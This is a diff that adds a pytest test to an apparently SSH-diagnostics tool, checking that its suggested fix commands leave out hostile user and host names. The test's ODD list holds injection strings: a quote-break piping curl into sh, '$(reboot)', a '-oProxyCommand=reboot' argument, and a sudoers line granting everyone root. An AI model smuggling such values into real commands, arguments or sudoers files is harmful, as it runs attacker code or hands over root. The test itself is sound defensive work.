@@ -385,3 +385,18 @@ def test_how_to_look_at_a_host_is_told_as_ssh_wants_it():
     found = judge_connection(Connection("fd00::5", "ubuntu", problem="unreachable", detail="no route", port=2222))[-1]
     assert found.fix.startswith("ssh -v -p 2222 ubuntu@fd00::5 ")
     assert judge_connection(Connection("fd00::5", "ubuntu", port=2222))[0].found == "[fd00::5]:2222 answers"
+
+
+ODD = ["x';curl$IFS-evil|sh;'", "$(reboot)", "-oProxyCommand=reboot", "ALL ALL=(ALL) ALL #", "a\nb"]
+
+
+@pytest.mark.parametrize("odd", ODD)
+def test_what_a_shell_would_read_is_not_put_into_a_command_to_be_copied(odd):
+    """A user's name is the host's word in a probe, and a host's name anybody's who may ask for a check."""
+    for problem in ("unreachable", "auth-failed", "script-output"):
+        for connection in (Connection("box", odd, problem=problem), Connection(odd, "ubuntu", problem=problem)):
+            fix = judge_connection(connection)[-1].fix
+            assert odd not in fix
+            assert "USER" in fix or "HOST" in fix
+    told = judged(recording(sudo="no", sudo_error="no", user=odd.replace("\n", " ")))[Check.SUDO]
+    assert told.fix.startswith("echo 'USER ALL=(ALL)")
